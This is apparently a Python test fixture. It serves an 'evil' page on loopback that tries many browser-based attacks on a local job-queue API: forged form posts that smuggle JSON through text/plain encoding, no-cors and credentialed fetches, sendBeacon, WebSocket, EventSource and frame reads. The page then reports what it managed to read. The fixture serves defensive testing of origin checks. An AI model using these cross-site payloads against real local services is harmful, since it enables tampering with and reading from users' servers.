"""
An evil web site on loopback: one page, which tries everything that a page can do to a server on the user's machine.

The page writes to its own site what it could read of answers; what changed on the server is for the server to tell. Requests that a page may
always send (an image, a form) cannot be seen to fail by the page, so only their effects count.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# {api} is the server's API as the page calls it, {job} a job of it, {report} where the page tells what it read.
PAGE = """<!doctype html><title>evil</title>
<link rel="prefetch" href="{api}/queues/bait/jobs">
<link rel="preload" as="fetch" href="{api}/queues/bait/jobs">
<script src="{api}/queues/bait/jobs"></script>
<link rel="stylesheet" href="{api}/queues/bait/jobs">
<body>
<img src="{api}/queues/bait/jobs">
<video src="{api}/queues/bait/jobs"></video>
<object data="{api}/queues/bait/jobs"></object>
<iframe name="sink"></iframe>
<iframe id="framed" src="{api}/docs"></iframe>
<iframe src="{api}/queues/bait/jobs"></iframe>
<iframe sandbox="allow-scripts allow-forms" srcdoc="<form method=post enctype=text/plain action='{api}/queues/pushed/jobs'><input name='{{&quot;name&quot;:&quot;sandbox&quot;,&quot;data&quot;:&quot;' value='&quot;}}'></form><script>document.forms[0].submit()</script>"></iframe>
<form id="form" target="sink" method="post" enctype="text/plain" action="{api}/queues/pushed/jobs">
<input name='{{"name":"form","data":"' value='"}}'></form>
<form id="pull" target="sink" method="post" action="{api}/queues/bait/pull"></form>
<form id="pause" target="sink" method="post" action="{api}/queues/witness/pause"></form>
<form id="get" target="sink" action="{api}/queues/bait/jobs"></form>
<script>
const api = "{api}", read = [];
let tried = document.querySelectorAll("link, script[src], img, video, object, iframe[src], iframe[srcdoc]").length;
const note = (name, value) => read.push(name + " " + value);
const body = JSON.stringify({{name: "fetched"}});
const TRIES = {{
  "GET queues": ["/queues", {{}}],
  "GET health": ["/health", {{}}],
  "GET metrics": ["/metrics/prometheus", {{}}],
  "legacy pull": ["/queues/bait/jobs", {{}}],
  "no-cors pull": ["/queues/bait/jobs", {{mode: "no-cors"}}],
  "push as text": ["/queues/pushed/jobs", {{method: "POST", headers: {{"Content-Type": "text/plain"}}, body}}],
  "push as form": ["/queues/pushed/jobs", {{method: "POST", headers: {{"Content-Type": "application/x-www-form-urlencoded"}}, body}}],
  "push as json": ["/queues/pushed/jobs", {{method: "POST", headers: {{"Content-Type": "application/json"}}, body}}],
  "push as blob": ["/queues/pushed/jobs", {{method: "POST", body: new Blob([body])}}],
  "push no-cors": ["/queues/pushed/jobs", {{method: "POST", mode: "no-cors", body}}],
  "push without referrer": ["/queues/pushed/jobs", {{method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", body}}],
  "push with credentials": ["/queues/pushed/jobs", {{method: "POST", mode: "no-cors", credentials: "include", body}}],
  "push kept alive": ["/queues/pushed/jobs", {{method: "POST", mode: "no-cors", keepalive: true, body}}],
  "pause": ["/queues/witness/pause", {{method: "POST", mode: "no-cors"}}],
  "pull": ["/queues/bait/pull", {{method: "POST", mode: "no-cors"}}],
  "delete": ["/jobs/{job}", {{method: "DELETE"}}],
  "patch": ["/queues/witness", {{method: "PATCH", headers: {{"Content-Type": "application/json"}}, body: '{{"max_length":1}}'}}],
  "put": ["/queues/witness", {{method: "PUT", body: "{{}}"}}],
}};
const attempt = async ([name, [path, options]]) => {{
  tried++;
  try {{
    const answer = await fetch(api + path, {{signal: AbortSignal.timeout(4000), ...options}});
    if (answer.type !== "opaque") {{
      const said = await answer.text();
      if (!said.includes("ORIGIN_REFUSED")) note(name, answer.status + " " + said.slice(0, 60));
    }}
  }} catch (error) {{}}
}};
const socket = () => new Promise(done => {{
  tried++;
  const ws = new WebSocket(api.replace("http", "ws") + "/queues");
  ws.onopen = () => {{ note("websocket", "open"); done(); }};
  ws.onerror = ws.onclose = done;
}});
const events = () => new Promise(done => {{
  tried++;
  const source = new EventSource(api + "/queues/bait/jobs");
  source.onopen = () => note("event source", "open");
  source.onerror = () => {{ source.close(); done(); }};
  setTimeout(done, 2000);
}});
const framed = () => {{
  tried++;
  try {{
    const inner = document.getElementById("framed").contentDocument;
    if (inner && inner.body && inner.body.textContent.length > 100) note("framed", inner.title);
  }} catch (error) {{}}
}};
addEventListener("load", async () => {{
  for (const id of ["form", "pull", "pause", "get"]) {{
    document.getElementById(id).submit();
    tried++;
    await new Promise(done => setTimeout(done, 100));
  }}
  tried += navigator.sendBeacon(api + "/queues/pushed/jobs", new Blob([body], {{type: "text/plain"}}));
  await Promise.all([...Object.entries(TRIES).map(attempt), socket(), events()]);
  framed();
  await fetch("{report}", {{method: "POST", mode: "no-cors", body: JSON.stringify({{read, tried}})}});
  document.title = "done";
}});
</script>
"""


@dataclass
class EvilSite:
    """`port` is where it listens, `report` what the page told last."""

    port: int = 0
    api: str = ""
    job: str = ""
    report: dict[str, Any] = field(default_factory=dict)
    told: threading.Event = field(default_factory=threading.Event)


@contextmanager
def evil_site() -> Iterator[EvilSite]:
    """Serves the page at every path."""
    site = EvilSite()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(
                PAGE.format(
                    api=site.api, job=site.job, report=f"http://127.0.0.1:{site.port}/report"
                )
            )

        def do_POST(self) -> None:
            length = int(self.headers["Content-Length"])
            site.report = json.loads(self.rfile.read(length))
            self._answer("")
            site.told.set()

        def _answer(self, text: str) -> None:
            data = text.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: object) -> None:
            """The test's output is the figure alone."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    site.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
